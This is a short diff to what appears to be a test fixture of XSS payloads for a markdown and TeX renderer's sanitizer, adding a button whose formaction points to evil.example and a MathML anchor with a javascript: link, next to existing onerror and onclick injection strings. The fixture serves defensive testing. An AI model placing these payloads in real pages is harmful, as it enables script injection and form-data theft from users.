@@ -28,4 +28,6 @@ export const XSS_PAYLOADS: [string, string][] = [
   ['TeX \\url and \\includegraphics', '$$\\url{https://evil.example} \\includegraphics{https://evil.example/x.png}$$'],
   ['TeX \\htmlData and \\htmlStyle', '$\\htmlData{onclick=alert(1)}{x} \\htmlStyle{position:fixed}{y}$'],
   ['code fence language with markup', '```"><img src=x onerror=alert(1)>\ncode\n```'],
+  ['button bound to an app form', '<button form="settings" formaction="https://evil.example">x</button>'],
+  ['MathML anchor', '<math><a href="javascript:alert(1)"><mi>x</mi></a></math>'],
 ];
